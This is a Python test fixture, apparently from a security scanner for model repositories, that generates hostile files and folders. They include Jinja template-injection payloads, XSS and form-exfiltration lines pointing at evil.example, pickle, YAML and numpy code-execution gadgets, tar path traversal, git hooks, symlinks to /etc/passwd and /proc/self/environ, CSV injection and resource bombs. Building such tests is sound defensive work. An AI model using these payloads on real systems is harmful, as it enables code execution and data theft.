    "padding to a multiple": {"padding": {"strategy": "BatchLongest", "pad_to_multiple_of": 10**12}},
}.items():  # fmt: skip
    config(f"a tokenizer that swells: {title}", "tokenizer.json", {"model": {"type": "BPE", "vocab": {}}, **part})
config("a Keras Lambda", "config.json", {"class_name": "Model", "config": {"layers": [{"class_name": "Lambda"}]}})
config("Hydra", "config.json", {"_target_": "os.system", "command": "id"})
config("jsonpickle", "config.json", {"py/reduce": [{"py/function": "os.system"}, ["id"]]})
config(
    "an index that leads out", "model.safetensors.index.json", {"weight_map": {"a": "../../other/model.safetensors"}}
)
config("an index to an absolute path", "model.safetensors.index.json", {"weight_map": {"a": "/etc/x.safetensors"}})
config("an index to a URL", "model.safetensors.index.json", {"weight_map": {"a": "https://x.example/a.safetensors"}})
config("an index to nothing", "model.safetensors.index.json", {"weight_map": {}})
for title, content in {
    "a key twice": b'{"auto_map": null, "auto_map": {"AutoModel": "a.B"}}',
    "NaN": b'{"a": NaN}',
    "infinity": b'{"a": -Infinity}',
    "1e999": b'{"a": 1e999}',
    "a long number": b'{"a": ' + b"9" * 100_000 + b"}",
    "a number of 4,000 digits": b'{"a": ' + b"9" * 4_000 + b"}",
    "deep": b"[" * 100_000 + b"]" * 100_000,
    "fifty deep": b"[" * 50 + b"]" * 50,
    "a bomb of lists": b"[" + b"[]," * 2_100_000 + b"[]]",
    "eleven megabytes": b'{"a": "' + b"x" * 11_000_000 + b'"}',
    "a byte order mark": b'\xef\xbb\xbf{"a": 1}',
    "UTF-16": '{"a": 1}'.encode("utf-16"),
    "not UTF-8": b'{"a": "\xff"}',
    "a NUL": b'{"a": 1}\0',
    "two values": b'{"a": 1}{"b": 2}',
    "a comment": b'{"a": 1} // hello',
    "single quotes": b"{'a': 1}",
    "HTML": b"<!doctype html><html><script>alert(1)</script></html>",
    "nothing": b"",
    "white space": b"  \n",
}.items():  # fmt: skip
    blob(f"JSON: {title}", "config.json", content)
blob("JSON: a bomb in the tokenizer", "tokenizer.json", b"[" + b"[]," * 2_100_000 + b"[]]")

# --- chat templates -------------------------------------------------------------------------------------------------

TEMPLATES = {
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "joiner": "{{ joiner.__init__.__globals__.os.system('id') }}",
    "text without end": "{{ lipsum(n=10000) }}",
    "a class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a class by key": "{{ messages['__class__'] }}",
    "a class by escapes": "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "a class by pieces": "{{ messages['__cla' + 'ss__'] }}",
    "a class by joined pieces": "{{ messages['__cla' ~ 'ss__'] }}",
    "a class by attr": "{{ messages|attr('__class__') }}",
    "a class by a variable": "{% set c = '__class__' %}{{ messages[c] }}",
    "a class by map": "{{ messages|map(attribute='__class__')|list }}",
    "a class by select": "{{ messages|selectattr('a.__class__')|list }}",
    "a class by groupby": "{{ messages|groupby('__class__') }}",
    "a class by format": "{{ '{0.__class__}'.format(messages) }}",
    "attr by map": "{{ messages|map('attr', 'x')|list }}",
    "characters by format": "{{ messages['%c%cclass%c%c'|format(95, 95, 95, 95)] }}",
    "a private name": "{{ self._TemplateReference__context }}",
    "a method's function": "{{ messages.append.__func__ }}",
    "namespace's insides": "{{ namespace.__init__.__globals__ }}",
    "a generator's frame": "{{ messages.gi_frame.f_globals }}",
    "an import": "{% import 'os' as os %}",
    "a from-import": "{% from '/etc/passwd' import x %}",
    "an include": "{% include '/etc/passwd' %}",
    "an extends": "{% extends '../../other' %}",
    "powers": "{{ 9 ** 9 ** 9 }}",
    "a long text": "{{ 'A' * 1000000000 }}",
    "a long loop": "{% for i in range(999999999) %}x{% endfor %}",
    "a product of loops": "{% for i in range(9999 * 9999) %}x{% endfor %}",
    "an unknown filter": "{{ messages|xmlattr }}",
    "an unknown tag": "{% debug %}",
    "no end": "{% for m in messages %}",
    "a large number": "{{ messages[5000000] }}",
    "a number of 5,000 digits": "{{ " + "9" * 5000 + " }}",
    "a number written as text": "{% for i in range('99999999'|int) %}x{% endfor %}",
    "a number by a name": "{% set n = 99999 %}{% for i in range(n) %}x{% endfor %}",
    "a number of two parts": "{% for i in range(9999 + 9999) %}x{% endfor %}",
    "a text times two numbers": "{{ 'A' * 9999 * 9999 }}",
    "a list times a number": "{{ ([1] * 20000)|join }}",
    "loops in loops": "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}",
    "loops in loops of letters": "".join(f"{{% for x{i} in 'aaaaaaaaaa' %}}" for i in range(9))
    + "x"
    + "{% endfor %}" * 9,
    "loops in loops of a list by name": "{% set l = [1,2,3,4,5,6,7,8,9,10,11,12] %}"
    + "{% for a in l %}" * 8
    + "x"
    + "{% endfor %}" * 8,
    "loops in loops of messages": "{% for a in messages %}" * 8 + "x" + "{% endfor %}" * 8,
    "a loop that calls itself": "{% for m in messages recursive %}{{ loop(messages) }}{% endfor %}",
    "doubling": "{% set ns = namespace(x='a') %}{% for m in messages %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
    "doubling by a sum": "{% set ns = namespace(x='a') %}{% for m in messages %}{% set ns.x = ns.x + ns.x %}{% endfor %}",
    "doubling by a product": "{% set ns = namespace(x='a') %}{% for m in messages %}{% set ns.x = ns.x * 2 %}{% endfor %}",
    "doubling by a list": "{% set ns = namespace(x='a') %}{% for m in messages %}{% set ns.x = [ns.x, ns.x]|join %}{% endfor %}",
    "doubling by replacing": "{% set ns = namespace(x='aa') %}{% for m in messages %}{% set ns.x = ns.x|replace('a', ns.x) %}"
    "{% endfor %}",
    "doubling by a method": "{% set ns = namespace(x='a') %}{% for m in messages %}{% set ns.x = '{}{}'.format(ns.x, ns.x) %}"
    "{% endfor %}",
    "doubling by a percent": "{% set ns = namespace(x='a') %}{% for m in messages %}{% set ns.x = '%s%s' % (ns.x, ns.x) %}"
    "{% endfor %}",
    "doubling in a block": "{% set x = 'a' %}" + "{% set x %}{{ x }}{{ x }}{% endset %}" * 40 + "{{ x }}",
    "doubling in a row": "{% set x = 'a' %}" + "{% set x = x ~ x %}" * 40 + "{{ x }}",
    "doubling by turns": "{% set a0 = 'a' %}"
    + "".join(f"{{% set a{i + 1} = a{i} ~ a{i} %}}" for i in range(40))
    + "{{ a40 }}",
    "doubling by two": "{% set ns = namespace(x='a', y='b') %}{% for m in messages %}{% set ns.x = ns.x ~ ns.y %}"
    "{% set ns.y = ns.y ~ ns.x %}{% endfor %}",
    "a wide number": "{{ '%1000000d' % 5 }}",
    "a wide number by format": "{{ '{:1000000}'.format(5) }}",
    "a number of many places": "{{ '%.100000f' % 5 }}",
    "a wide text": "{{ 'a'.ljust(1000000) }}",
    "a wide text by the key": "{{ 'a'.center(width=99999) }}",
    "a wide indent": "{{ messages|string|indent(900000) }}",
    "a control character": "hello \x1b]0;owned\x07",
    "a control character in a text": "{{ '\\x1b[2J' }}",
    "a pickle in letters": "cos\nsystem\n(Vtrue\ntR.",
    "a long product": "{{ " + "2 * " * 3_000 + "2 }}",
    "a long sum for a name": "{{ messages[" + "'a' + " * 3_000 + "'a'] }}",
    "deep": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "huge": "x" * 300_000,
}
for title, source in TEMPLATES.items():
    blob(f"template: {title}", "chat_template.jinja", source.encode())
for number, value in enumerate([
    {"chat_template": TEMPLATES["cycler"]},
    {"chat_template": [{"name": "default", "template": TEMPLATE}, {"name": "tools", "template": TEMPLATES["lipsum"]}]},
    {"chat_template": {"default": TEMPLATES["a class"]}},
]):  # fmt: skip
    config(f"a hostile template in the tokenizer {number}", "tokenizer_config.json", value)
config(
    "many templates",
    "tokenizer_config.json",
    {"chat_template": [{"name": str(n), "template": f"{n}" * 9000} for n in range(40)]},
)
config("a hostile template in chat_template.json", "chat_template.json", {"chat_template": TEMPLATES["cycler"]})
blob("template: not UTF-8", "chat_template.jinja", b"{{ 'caf\xe9' }}")
blob("template: among others", "additional_chat_templates/rag.jinja", TEMPLATES["cycler"].encode())

# --- text, cards, YAML ----------------------------------------------------------------------------------------------

CARDS = {
    "a script": "# Model\n<script>fetch('https://evil.example')</script>\n",
    "a script in capitals": "<ScRiPt src=//evil.example></sCrIpT>\n",
    "an event": "<img src=x onerror=alert(1)>\n",
    "an event after a bracket": "<img alt='<' onerror = 'alert(1)'>\n",
    "an event with a slash": "<img/src=x/onload=alert(1)>\n",
    "a frame": "<iframe src='https://evil.example'></iframe>\n",
    "an object": "<object data='evil.swf'></object>\n",
    "an embed": "<embed src='evil.swf'>\n",
    "a form": "<form action='https://evil.example'><input name='password'></form>\n",
    "a base": "<base href='https://evil.example/'>\n",
    "a refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>\n",
    "a style": "<style>@import 'https://evil.example/x.css';</style>\n",
    "a link that runs": "[click](javascript:alert(1))\n",
    "a link that runs, with entities": "<a href='&#106;avascript&#58;alert(1)'>x</a>\n",
    "a link that runs, with white space": "<a href='java\tscript\n:alert(1)'>x</a>\n",
    "a link that runs, by reference": "[click]\n\n[click]: javascript:alert(1)\n",
    "a link of VBScript": "<a href=vbscript:x>x</a>\n",
    "a page in a link": "[click](data:text/html;base64,PHNjcmlwdD4=)\n",
    "an svg that runs": "<svg onload=alert(1)>\n",
    "a direction mark": "Accuracy \u202e%99\u202c\n",
    "an object in the front matter": "---\nname: !!python/object/apply:os.system ['id']\n---\n",
    "laughs in the front matter": "---\na: &a [x, x]\nb: [*a, *a]\n---\n",
    "front matter that is not YAML": "---\na: [\n---\n",
    "front matter with a character that YAML has not": "---\na: \x85\x80\n---\n",
    "a character of 5,000 digits": "&#" + "0" * 5000 + "106;avascript\n",
    "a link that runs, many quotes": "<a href=" + "<" * 50 + "'" * 50 + "javascript:alert(1)>x</a>\n",
    "deep front matter": "---\na: " + "[" * 100 + "]" * 100 + "\n---\n",
}
for title, source in CARDS.items():
    blob(f"card: {title}", "README.md", source.encode())
TEXTS: dict[str, bytes] = {
    "an escape sequence": b"hello \x1b]0;owned\x07\n",
    "a NUL": b"hello\0world\n",
    "not UTF-8": b"caf\xe9\n",
    "UTF-16": "hello".encode("utf-16"),
    "a shell script": b"#!/bin/sh\nid\n",
    "a web page": b"\n <!DOCTYPE html><html></html>\n",
    "PHP": b"<?php system('id'); ?>\n",
    "a private key": b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n",
    "a program": b"\x7fELF\x02\x01\x01" + b"\0" * 100,
    "an archive": archive({"a": b"b"}),
    "nothing": b"",
    "sixteen megabytes": b"x" * 16_000_001,
}
# A pickle in letters that breaks off once its call is made, or is written as only some readers accept.
LETTERS: dict[str, bytes] = {
    "cut after the call": b"cos\nsystem\n(Vtrue\ntR",
    "garbage after the call": b"cos\nsystem\n(Vtrue\ntR?? and so on, as any text\n",
    "prose after the call": b"cos\nsystem\n(Vtrue\ntR\n\nDear reader, this is prose.\n",
    "INST, then garbage": b"(Vtrue\nios\nsystem\n???",
    "OBJ, then garbage": b"(c__builtin__\nexec\nVpass\no???",
    "BUILD, then garbage": b"cevil.module\nThing\n(db???",
    "a name alone, then garbage": b"cantigravity\nfly\n???",
    "a name from the memo": b"cevil\nrun\np0\n0g0\n(tR???",
    "a number as only C reads it": b"I0x10\n0cevil\nrun\n(tR???",
    "letters that hold a byte opcode": "Vevil\nVrun\nq\u0093(tR???".encode(),
    "after another pickle": b"N.cevil\nrun\n(tR.",
    "an item for a name": b"cevil\nlist\nVx\na???",
}
for title, content in LETTERS.items():
    blob(f"text: a pickle in letters: {title}", "notes.txt", content)
for title, content in TEXTS.items():
    blob(f"text: {title}", "notes.txt", content)
blob("YAML: an object", "eval_results.yaml", b"a: !!python/object/apply:os.system ['id']\n")
blob("YAML: laughs", "eval_results.yaml", b"a: &a [x]\nb: [*a, *a]\n")
blob("vocabulary: noise", "tokenizer.model", bytes(range(1, 255)))
blob("vocabulary: another message", "tokenizer.model", b"\x08\x07\x12\x03abc")
blob("vocabulary: a field too many", "tokenizer.model", piece(b"a") + b"\xc2\x0c\x03abc")
blob("vocabulary: cut", "tokenizer.model", piece(b"abc")[:-2])
blob("vocabulary: a piece that is not UTF-8", "tokenizer.model", piece(b"\xff\xfe"))
blob("vocabulary: a piece with a field too many", "tokenizer.model", b"\x0a\x07\x0a\x01a\x4a\x02xy")
blob("vocabulary: no pieces", "tokenizer.model", b"\x12\x00")
blob("vocabulary: a script", "tokenizer.model", b"#!/bin/sh\nid\n")
for title, content in {
    "a number too long": b"\x8a\x00" + piece(b"a")[1:], "a length too long": b"\x0a\x8d\x00" + piece(b"abcd")[2:],
    "a number of 70 bits": piece(b"a")[:-1] + b"\xff" * 9 + b"\x7f",
    "and a pickle": b"\x8a\x00" + b"\x80\x02}.", "and a pickle in letters": b"cevil\nrun\n(tR.",
    "a table that swells": piece(b"abc") + message(3, message(2, SWELLING_MAP)),
    "and a ZIP archive": piece(b"abc") + b"\x12" + bytes([len(short_zip := archive({"a": b"b"}))]) + short_zip,
}.items():  # fmt: skip
    blob(f"vocabulary: {title}", "tokenizer.model", content)
for name in ("weights.model", "lstm.model", "tokenizer.v2.model", "model.model"):
    blob(f"vocabulary: under the name {name}", name, piece(b"<s>"))

# --- other formats --------------------------------------------------------------------------------------------------


def tar(canary: Path) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as made:
        info = tarfile.TarInfo("../../evil.sh")
        data = touch(canary).encode()
        info.size = len(data)
        made.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def object_array(canary: Path) -> bytes:
    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, (touch(canary),)

    stream = io.BytesIO()
    np.save(stream, np.array([Payload()], dtype=object), allow_pickle=True)
    return stream.getvalue()


OTHERS: dict[str, Callable[[Path], bytes] | bytes] = {
    "model.gguf": b"GGUF\x03\0\0\0" + b"\0" * 64,
    "model.ggml": b"lmgg" + b"\0" * 64,
    "model.onnx": b"\x08\x08\x12\x07pytorch\x1a\x05" + b"\0" * 64,
    "model.onnx_data": b"\0" * 64,
    "model.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64,
    "model.keras": lambda c: archive({"config.json": json.dumps({"class_name": "Lambda", "code": python(c)}).encode()}),
    "saved_model.pb": b"\x08\x01\x12\x10" + b"\0" * 64,
    "variables/variables.index": b"\0" * 64,
    "variables/variables.data-00000-of-00001": b"\0" * 64,
    "model.tflite": b"\x1c\0\0\0TFL3" + b"\0" * 64,
    "model.mlmodel": b"\x08\x01" + b"\0" * 64,
    "model.engine": b"ptrt" + b"\0" * 64,
    "model.npy": object_array,
    "model.npz": lambda c: archive({"a.npy": object_array(c)}),
    "modeling_evil.py": lambda c: python(c).encode(),
    "__init__.py": lambda c: python(c).encode(),
    "sitecustomize.py": lambda c: python(c).encode(),
    "cached.pyc": b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3",
    "native.so": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
    "native.dylib": b"\xcf\xfa\xed\xfe" + b"\0" * 64,
    "native.dll": b"MZ" + b"\0" * 64,
    "setup.exe": b"MZ" + b"\0" * 64,
    "setup.sh": lambda c: f"#!/bin/sh\n{touch(c)}\n".encode(),
    "run": lambda c: f"#!/bin/sh\n{touch(c)}\n".encode(),
    "train.ipynb": b'{"cells": []}',
    "index.html": b"<!DOCTYPE html>",
    "logo.svg": b"<svg onload='alert(1)'/>",
    "paper.pdf": b"%PDF-1.7",
    "logo.png": b"\x89PNG\r\n\x1a\n",
    "worker.js": b"alert(1)",
    "kernel.wasm": b"\0asm\1\0\0\0",
    "kernel.cu": b"__global__ void f() {}",
    "kernel.bc": b"BC\xc0\xde",
    "weights.zip": archive({"a": b"b"}),
    "weights.tar": tar,
    "weights.tar.gz": b"\x1f\x8b\x08" + b"\0" * 64,
    "weights.bz2": b"BZh9" + b"\0" * 64,
    "weights.xz": b"\xfd7zXZ\0" + b"\0" * 64,
    "weights.zst": b"\x28\xb5\x2f\xfd" + b"\0" * 64,
    "weights.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 64,
    "weights.rar": b"Rar!\x1a\x07\0" + b"\0" * 64,
    "package.whl": archive({"evil.py": b"x"}),
    "app.jar": archive({"Evil.class": b"\xca\xfe\xba\xbe"}),
    "data.csv": b"=cmd|' /C calc'!A0\n",
    "data.parquet": b"PAR1" + b"\0" * 64,
    "data.sqlite": b"SQLite format 3\0" + b"\0" * 64,
    "model.safetensors.py": lambda c: python(c).encode(),
    "config.json.exe": b"MZ" + b"\0" * 64,
    "model.SAFETENSORS.bin": lambda c: call("os", "system", touch(c)),
    "noise": bytes(range(256)),
    "Makefile": b"all:\n\tid\n",
    "requirements.in": b"evil\n",
    "pyproject.toml": b"[build-system]\n",
    "unknown.xyz": b"hello",
}
for title, content in OTHERS.items():
    blob(f"file: {title}", title, content)
for disguise, content in {
    "model.safetensors": b"GGUF" + b"\0" * 64, "tokenizer.json": b"\x7fELF" + b"\0" * 64, "README.md": b"MZ\x90\0" + b"\0" * 64,
    "merges.txt": b"\x1f\x8b\x08" + b"\0" * 64, "chat_template.jinja": b"\x89PNG\r\n\x1a\n",
    "tokenizer.model": b"\x89HDF\r\n\x1a\n",
}.items():  # fmt: skip
    blob(f"disguised as {disguise}", disguise, content)

# --- the folder itself ----------------------------------------------------------------------------------------------


def link(title: str, name: str, target: str) -> None:
    def put(folder: Path, canary: Path) -> str:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)
        return name

    case(f"link: {title}")(put)


link("to /etc/passwd", "notes.txt", "/etc/passwd")
link("to a file beside it", "extra.safetensors", "model.safetensors")
link("in place of the weights", "model.safetensors", "../model.safetensors")
link("to nothing", "gone.json", "nowhere.json")
link("to itself", "loop.json", "loop.json")
link("to the folder above", "above", "..")
link("to the root", "root", "/")
link("to /dev/zero", "zero.safetensors", "/dev/zero")
link("to /proc/self/environ", "env.txt", "/proc/self/environ")


@case("a pipe")
def _(folder: Path, canary: Path) -> str:
    os.mkfifo(folder / "weights.safetensors")
    return "weights.safetensors"


@case("a socket")
def _(folder: Path, canary: Path) -> str:
    here = Path.cwd()
    os.chdir(folder)  # a socket's path may not be long
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("config.sock")
    finally:
        os.chdir(here)
    return "config.sock"


def mode(title: str, bits: int) -> None:
    def put(folder: Path, canary: Path) -> str:
        (folder / "config.json").chmod(bits)
        return "config.json"

    case(f"mode: {title}")(put)


mode("executable", 0o755)
mode("executable by its group", 0o654)
mode("executable by others", 0o645)
mode("set-user-ID", 0o4644)
mode("set-group-ID", 0o2644)
mode("sticky", 0o1644)
mode("anyone may write", 0o666)


@case("mode: a folder anyone may write")
def _(folder: Path, canary: Path) -> str:
    (folder / "sub").chmod(0o777)
    return "sub"


@case(".git")
def _(folder: Path, canary: Path) -> str:
    hooks = folder / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "post-checkout").write_text(f"#!/bin/sh\n{touch(canary)}\n")
    (hooks / "post-checkout").chmod(0o755)
    return ".git"


def made_folder(title: str, name: str) -> None:
    def put(folder: Path, canary: Path) -> str:
        (folder / name).mkdir(parents=True)
        return name.split("/")[0] if name.startswith(".") else name

    case(f"folder: {title}")(put)


made_folder("empty", "empty")
made_folder("empty below", "a/b/c")
made_folder("hidden", ".cache")
made_folder("hidden twice", "..data")


@case("folder: too deep")
def _(folder: Path, canary: Path) -> str:
    (deep := folder.joinpath(*"abcdefghij")).mkdir(parents=True)
    (deep / "notes.txt").write_text("x")
    return "a/b/c/d/e/f/g/h/i"


def named(title: str, name: str | bytes, shown: str | None = None) -> None:
    def put(folder: Path, canary: Path) -> str:
        path = os.fsencode(folder) + b"/" + os.fsencode(name)
        with open(path, "wb") as stream:  # noqa: PTH123 - a Path cannot hold every name
            stream.write(b"hello\n")
        os.chmod(path, 0o644)  # noqa: PTH101
        return shown or str(name)

    case(f"name: {title}")(put)


named("hidden", ".env")
named("hidden JSON", ".config.json")
named("git's", ".gitmodules")
named("a line break", "a\nb.txt", "a\\nb.txt")
named("an escape sequence", "a\x1b[2Jb.txt", "a\\x1b[2Jb.txt")
named("a tab", "a\tb.txt", "a\\tb.txt")
named("a direction mark", "a\u202etxt.nosj.txt", "a\\u202etxt.nosj.txt")
named("an invisible character", "a\u200bb.txt", "a\\u200bb.txt")
named("not UTF-8", b"caf\xe9.txt", "caf\\udce9.txt")
named("a backslash", "..\\..\\evil.txt")
named("a colon", "C:evil.txt")
named("per cent", "%2e%2e%2fevil.txt")
named("a dash", "-rf.txt")
named("a tilde", "~root.txt")
named("white space around", " config.json ")
named("a dot at the end", "config.json.")
named("a star", "*.json")
named("long", "x" * 220 + ".txt")


def collision(title: str, one_name: str, other: str) -> None:
    def put(folder: Path, canary: Path) -> list[str]:
        for name in (one_name, other):
            (folder / name).unlink(missing_ok=True)
            (folder / name).write_text('{"a": 1}')
            (folder / name).chmod(stat.S_IRUSR | stat.S_IWUSR)
        return sorted([one_name, other])

    case(f"collision: {title}")(put)


collision("case", "config.json", "Config.json")
collision("accents", unicodedata.normalize("NFC", "é.json"), unicodedata.normalize("NFD", "é.json"))
collision("ligature", "fi.json", "ﬁ.json")
